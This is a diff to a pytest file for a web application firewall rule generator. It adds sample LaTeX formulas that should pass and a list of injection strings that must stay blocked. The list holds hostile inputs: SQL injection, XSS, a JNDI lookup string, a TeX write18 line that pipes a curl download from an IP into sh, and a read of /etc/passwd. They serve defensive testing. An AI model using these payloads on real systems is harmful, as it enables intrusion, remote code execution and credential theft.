@@ -281,10 +281,52 @@ ODATA_INJECTIONS = [  # each must fall back to every rule
 ]
 
 
+LATEX = [  # formula editors' and formula keyboards' TeX (MathJax 3, KaTeX), and the plain math text beside it
+    # corpus K tuning part, sci-project-apply/formula-save (10660, 10430, 10274/10275) and edu-homework/answer-submit
+    # (10431, 10460 on latex; 933210 on text)
+    "E=mc^2",
+    r"\eta=\frac{P_{\text{out}}}{P_{\text{in}}}\times 100\%",
+    r"\sqrt{x^2+y^2}<r",
+    r"2 \le x \le 3",
+    r"BC=\sqrt{4+9-2\times2\times3\times\cos 60^{\circ}}=\sqrt{7}",
+    r"S=\pi r^{2}=9\pi\ \mathrm{cm}^{2}",
+    r"\frac{a}{b}\ge\frac{a+1}{b+1}",
+    r"\sqrt{2}\times\sqrt{8}=\sqrt{16}=4",
+    r"f_{\min}=3",
+    "a/b ≥ (a+1)/(b+1)", "2 ≤ x ≤ 3", "9π cm²", "√7", "3",
+    # the section formulas of the same corpus (inside HTML there; as a whole value here), and MathJax's usual shapes
+    r"F_s=\dfrac{\sum (c'l+(W\cos\alpha-ul)\tan\varphi')}{\sum W\sin\alpha}",
+    r"L(\theta)=-\frac{1}{N}\sum_{i=1}^{N}\left[y_i\log\hat{y}_i+(1-y_i)\log(1-\hat{y}_i)\right]",
+    r"\hat{y}_i=\sigma(w^{\top}x_i+b)",
+    r"\alpha_{ij}=\mathrm{softmax}\left(\frac{QK^{T}}{\sqrt{d_k}}\right)_{ij}",
+    r"\mathbf{x}_{k+1}=\mathbf{A}\mathbf{x}_k+\mathbf{B}\mathbf{u}_k+\mathbf{w}_k,"
+    r"\quad \mathbf{w}_k\sim\mathcal{N}(0,\mathbf{Q})",
+    r"f'(x)=3x^2-2", r"f''(x) \not= 0", r"(x+1)(x-2)=0", r"|x - 1| + |x + 2|", r"\{x \mid x > 0\}",
+    "\\begin{aligned} a &= b + c \\\\\n d &= e \\end{aligned}",
+    r"\begin{cases} x+1, & x \ge 0 \\ -x, & x<0 \end{cases}",
+    r"x \in \mathbb{R},\; x \neq 0,\ \text{当 } x>0 \text{ 时}", r"p \land q \lor \neg r",
+    r"\lim_{n\to\infty}\left(1+\frac{1}{n}\right)^n=e", r"\sum\limits_{k=1}^{n} k = \frac{n(n+1)}{2}",
+]
+LATEX_INJECTIONS = [  # each must fall back to every rule
+    "x' union select password from users--", "1 union select 1", "1union select 1", r"x\\select 1",
+    "1 or 1=1", "1 and sleep(5)", r"\\not 1", r"x \text{ and } y", r"\text{1 union select 1}", "1 between 1 and 2",
+    "1=1 -- x", "1/* x */", "1 # x", "1; drop table t", "`id`", '"x"', "$(id)", "${jndi:ldap://x.example/a}",
+    "x@@version", "1%27", r"50\%27", "1?",
+    "extractvalue(1,concat(0x7e,version()))", "1|version()", "1||1", "1&&1", "x'='x", "1' or '1'='1",
+    "information_schema.tables", "pg_sleep(5)", "x into outfile y", "1 waitfor delay 5", "a\x00b",
+    "<script>alert(1)</script>", "</x>", "<!-- x", "<img src=x onerror=alert(1)>", "x<b>y",
+    r"\write18{id}", r"\immediate\write18{curl http://203.0.113.5/x|sh}", r"\input{/etc/passwd}", r"\include{x}",
+    r"\\input{x}", r"\Write18{x}", r"\def\x{1}", r"\catcode`\@=11", r"\csname x\endcsname", r"\newcommand{\x}{1}",
+    r"\href{javascript:alert(1)}{x}", r"\url{http://x.example/}", r"\require{html}", r"\unicode{x}", r"\style{x}{y}",
+    r"\class{x}{y}", r"\htmlClass{x}{y}", r"\openout1=x", r"\from x",
+    "(system)(id)", "(sys.tem)(id)", r"(\system)(id)", "(system)[0]",
+]
+
+
 # language: (values its clients send, which must be the grammar; injections, which must fall back to every rule)
 TABLES = {"filter-sql": (FILTERS, INJECTIONS), "cql": (CQL, CQL_INJECTIONS), "graphql": (GRAPHQL, GRAPHQL_INJECTIONS),
           "report-formula": (REPORT_FORMULAS, REPORT_FORMULA_INJECTIONS), "sdp": (SDP, SDP_INJECTIONS),
-          "odata": (ODATA, ODATA_INJECTIONS)}
+          "odata": (ODATA, ODATA_INJECTIONS), "latex": (LATEX, LATEX_INJECTIONS)}
 
 
 @pytest.mark.parametrize(("language", "value"), [(lang, v) for lang, (ok, _) in TABLES.items() for v in ok])
@@ -316,6 +358,21 @@ def test_an_odata_field_leaves_the_sql_rules_and_932105_only() -> None:
     assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:$expand", "ctl:ruleRemoveTargetById=932105;ARGS:$expand",
                    "ctl:ruleRemoveTargetByTag=sitegroup/replaces/932105;ARGS:$expand"]
     assert not any(t in last for t in ("attack-rce", "attack-xss", "ruleRemoveById=", "ruleRemoveByTag="))
+
+
+def test_a_latex_field_leaves_the_sql_rules_920272_and_933210_only() -> None:
+    ff = FilterField(("/kjxm/api/sbs/formula/save",), ("ARGS:latex",), "latex", "LaTeX")
+    last = filter_fields.render(ff, 12101, "cms/x")[-1]
+    assert filter_fields.LANGUAGES["latex"] in last
+    ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
+    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:latex",
+                   "ctl:ruleRemoveTargetById=920272;ARGS:latex",
+                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/920272;ARGS:latex",
+                   "ctl:ruleRemoveTargetById=933210;ARGS:latex",
+                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/933210;ARGS:latex",
+                   "ctl:ruleRemoveTargetById=920272;REQUEST_BODY",
+                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/920272;REQUEST_BODY"]
+    assert not any(t in last for t in ("attack-rce", "attack-xss", "attack-php", "ruleRemoveById=", "ruleRemoveByTag="))
 
 
 @pytest.mark.parametrize("language", TABLES)
